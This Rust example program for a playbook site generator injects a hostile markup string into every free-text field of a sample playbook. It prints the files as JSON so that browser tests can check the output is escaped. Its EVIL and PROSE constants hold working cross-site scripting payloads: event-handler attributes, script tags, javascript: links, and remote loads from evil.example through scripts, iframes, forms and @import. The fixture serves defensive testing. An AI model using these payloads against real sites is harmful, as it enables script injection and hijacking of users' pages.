//! Prints a playbook in which every text that an author may choose tries to leave its place, as JSON: `files`, the texts
//! of its files by path, and `untried`, the fields that may hold free text and in which none of the hostile one is read.
//!
//! `cargo run --example hostile -- playbook`. The browser tests build and serve what it prints.
#![expect(clippy::print_stdout, reason = "a program of its own")]

use std::collections::{BTreeMap, BTreeSet};

use playmaker::{
    model::{
        self, Playbook, Today,
        field::{Field, Type},
        kinds,
        record::{Record, Value},
        value::Date,
    },
    source::{self, DiskTree, MemoryTree, Sources, Span, Tree},
    splice,
};
use serde_json::json;

/// Out of quotes of both sorts, of an element whose text is no markup, of a comment, of a script and of a list in Markdown.
/// Whatever of it runs sets `__x`, and whatever loads asks `evil.example`.
const EVIL: &str = "x\"'></title></textarea></script>]]>--><img src=x onerror=__x=1><svg onload=__x=1>\
<script>__x=1</script><script src=https://evil.example/x.js></script>\
<a href=javascript:__x=1>a</a> [b](javascript:__x=1) ![c](https://evil.example/c.png) [d](https://evil.example/d) `e`";

/// Fields of texts that name something or have a form; what is wrong in them is an error, and no site is built.
const FORMS: &[&str] = &[
    "brand.color",
    "brand.color_dark",
    "brand.font",
    "brand.logo",
    "business_hours.",
    "changes.field",
    "crm",
    "crm.",
    "currency",
    "forms.",
    "handle",
    "kinds.",
    "language",
    "names",
    "narrative",
    "people.",
    "repository",
    "rules.because",
    "teams.",
    "waive.",
];

/// Fields that every item may have, put into those that lack them.
const COMMON: &[&str] = &["summary", "aliases", "tags", "evidence"];

/// The same in prose, where there is more that can be opened.
const PROSE: &str = "\n\n## x\"'><img src=x onerror=__x=1>\n\n<script>__x=1</script>\n\n<iframe src=https://evil.example/f>\
</iframe><form action=https://evil.example/g><button>h</button></form><style>@import \"https://evil.example/i\"</style>\n\n\
<a href=https://evil.example/j target=_blank>k</a> <javascript:__x=1> [l](data:text/html,x)\n\n\
```\"><img src=x onerror=__x=1>\n<script>__x=1</script>\n```\n\n| \"onload=__x=1 |\n|---|\n| <img src=x onerror=__x=1> |\n";

/// Items and settings for fields in which the sample has something else than free text, or nothing; `@` is the hostile text.
const MORE: &[(&str, &str)] = &[
    (
        "goals/hostile.md",
        "---\ntitle: @\nstatus: draft\nkpi: new-arr\ntargets: [{period: 2026, value: $1}]\nin_comp: @\n---\n",
    ),
    (
        "lead-stages/hostile.md",
        "---\ntitle: @\nstatus: draft\ntype: end\ndefinition: @\nexamples:\n  - {title: @, lead: {pain: x}, because: @}\n---\n",
    ),
    (
        "offers/hostile.md",
        "---\ntitle: @\nstatus: draft\ntype: point\nicps: [pharma-logistics]\nprice: @\nlead_with: [{icp: pharma-logistics, when: @}]\n---\n",
    ),
    (
        "plays/hostile.md",
        "---\ntitle: @\nstatus: draft\ntrigger: @\ndone_when: @\nstages: [mql]\nsteps: [{what: @, who: @, by: @}]\n---\n",
    ),
    (
        "playbook.yaml",
        "navigation:\n  - {title: @, pages: [{page: index, title: @}]}\n  - {title: @, page: narrative}\n",
    ),
];

fn main() {
    let root = std::env::args().nth(1).expect("the folder of a playbook");
    let playbook = read(&DiskTree::new(root));
    let mut tried = Tried::default();
    let sources = &playbook.sources;
    tried.decided = playbook
        .of_kind(&kinds::DECISION)
        .flat_map(|entry| decided(sources, &entry.record))
        .collect();
    tried.record("playbook", &playbook.settings().record);
    let mut more = Vec::new();
    for entry in playbook.entries() {
        tried.id.clone_from(&entry.id.value);
        tried.record(entry.kind.name, &entry.record);
        let has_common = kinds::declared(entry.kind)[0].iter().any(|field| field.name == "tags");
        if let Some(first) = entry.record.fields.first().filter(|_| has_common) {
            let absent = COMMON.iter().filter(|name| !entry.record.has(name));
            let start = first.key.range().start;
            let text = &sources.file(first.key.file).text;
            let indent = start - text[..start].rfind('\n').map_or(0, |at| at + 1);
            let is_flow = text[entry.record.span.range()].starts_with('{');
            let end = if is_flow { ", ".to_owned() } else { format!("\n{}", " ".repeat(indent)) };
            let fields = absent.map(|name| tried.common(name) + &end).collect();
            more.push((Span::new(first.key.file, start..start), fields));
        }
    }
    let places = tried.places.iter().map(|(span, text)| (*span, written(sources, *span, text)));
    let mut edits: Vec<(Span, String)> = places.chain(more).collect();
    edits.sort();
    let edits = edits.iter().map(|(span, text)| (*span, text.as_str()));
    let texts = sources.ids().map(|id| sources.file(id));
    let mut files: BTreeMap<&str, String> =
        texts.map(|file| (file.path.as_str(), file.text.clone())).collect();
    for (file, text) in splice::texts(sources, edits) {
        files.insert(&sources.file(file).path, text);
    }
    for (path, text) in MORE {
        files.entry(path).or_default().push_str(&text.replace('@', &json!(EVIL).to_string()));
    }
    for (_, text) in files.iter_mut().filter(|(path, _)| path.ends_with(".md")) {
        text.push_str(PROSE);
    }
    let hostile = read(&MemoryTree::from_iter(files.clone()));
    let mut fields = BTreeSet::new();
    held("playbook", &hostile.settings().record, &mut fields);
    for entry in hostile.entries() {
        held(entry.kind.name, &entry.record, &mut fields);
    }
    let all = kinds::all().chain([&kinds::PLAYBOOK]);
    let free = all.flat_map(|kind| {
        let declared = kinds::declared(kind).into_iter().flatten();
        declared.flat_map(|field| free(kind.name, field)).collect::<Vec<_>>()
    });
    let untried: BTreeSet<String> =
        free.filter(|path| !fields.contains(path) && !has_form(path)).collect();
    println!("{}", json!({"files": files, "untried": untried}));
}

fn read(tree: &dyn Tree) -> Playbook {
    let loaded = source::load(tree, "").expect("the folder can be listed");
    model::build(loaded, Today::Usual(Date::parse("2026-11-20").expect("a date")))
}

/// Adds the fields of a record in which the hostile text is read.
fn held(above: &str, record: &Record, out: &mut BTreeSet<String>) {
    fn look(path: &str, value: &Value, out: &mut BTreeSet<String>) {
        match value {
            Value::Text(text) if text.contains("onerror=__x=1") => _ = out.insert(path.to_owned()),
            Value::Record(record) => held(path, record, out),
            Value::List(items) => items.iter().for_each(|item| look(path, &item.value, out)),
            Value::Map(pairs) => pairs.iter().for_each(|(_, item)| look(path, &item.value, out)),
            _ => {}
        }
    }
    for written in &record.fields {
        if let Some(value) = &written.value {
            look(&format!("{above}.{}", written.field.name), &value.value, out);
        }
    }
}

/// Where free text is written.
#[derive(Default)]
struct Tried {
    /// With what stands there.
    places: BTreeMap<Span, String>,
    /// Items and fields of theirs that somebody decided.
    decided: BTreeSet<(String, String)>,
    /// The item that is looked at.
    id: String,
}

/// Returns what a decision says of items: changing that is an error.
fn decided(sources: &Sources, decision: &Record) -> Vec<(String, String)> {
    let changes = decision.get("changes").map(|changes| &changes.value);
    let Some(Value::List(changes)) = changes else { return Vec::new() };
    let pair = |change: &Record| {
        let item = sources.text(change.get("item")?.span).trim_matches('"');
        let field = change.text("field")?.split('.').next()?;
        Some((item.rsplit('/').next()?.to_owned(), field.to_owned()))
    };
    let pairs = changes.iter().filter_map(|change| match &change.value {
        Value::Record(change) => pair(change),
        _ => None,
    });
    pairs.collect()
}

/// Says whether what stands in a field is not for its author to choose freely.
fn has_form(path: &str) -> bool {
    let (_, field) = path.split_once('.').unwrap_or_default();
    FORMS.iter().any(|form| field == *form || form.ends_with('.') && field.starts_with(form))
}

impl Tried {
    /// Returns the line of a field that every item may have.
    fn common(&self, name: &str) -> String {
        // Two items of one kind may not share another name.
        let text = json!(format!("{} {EVIL}", self.id));
        match name {
            "summary" => format!("{name}: {text}"),
            "evidence" => format!("{name}: [{{claim: {text}, source: {text}}}]"),
            _ => format!("{name}: [{text}]"),
        }
    }

    fn record(&mut self, above: &str, record: &Record) {
        for written in &record.fields {
            let path = format!("{above}.{}", written.field.name);
            if self.decided.contains(&(self.id.clone(), written.field.name.to_owned())) {
                continue;
            }
            if let Some(value) = &written.value {
                self.value(&path, &value.value, value.span);
            }
        }
    }

    fn value(&mut self, path: &str, value: &Value, span: Span) {
        match value {
            Value::Text(text) if !has_form(path) => {
                self.places.insert(span, text.clone());
            }
            Value::Record(record) => self.record(path, record),
            Value::List(items) => {
                items.iter().for_each(|item| self.value(path, &item.value, item.span));
            }
            Value::Map(pairs) => {
                pairs.iter().for_each(|(_, item)| self.value(path, &item.value, item.span));
            }
            _ => {}
        }
    }
}

/// Returns the fields that may hold free text, in a field and below it.
fn free(above: &str, field: &'static Field) -> Vec<String> {
    fn has_text(ty: &'static Type) -> bool {
        match ty {
            Type::Text => true,
            Type::List(inner) | Type::Map(inner) => has_text(inner),
            Type::OneOf(types) => types.iter().any(has_text),
            _ => false,
        }
    }
    let path = format!("{above}.{}", field.name);
    let below = field.ty.parts().unwrap_or_default().iter().flat_map(|part| free(&path, part));
    let own = has_text(&field.ty).then(|| path.clone());
    own.into_iter().chain(below).collect()
}

/// Returns a text with the hostile one behind it, as YAML: as it is where that can be, else in quotes.
fn written(sources: &Sources, span: Span, own: &str) -> String {
    let (file, range) = (&sources.file(span.file).text, span.range());
    let line = file[..range.start].rsplit('\n').next().unwrap_or_default();
    let is_plain = line.trim_end().ends_with(':')
        && !line.contains(['{', '[', '"'])
        && file[range].starts_with(|c: char| c.is_alphanumeric());
    if is_plain {
        format!("{} {EVIL}", sources.text(span))
    } else {
        json!(format!("{own} {EVIL}")).to_string()
    }
}
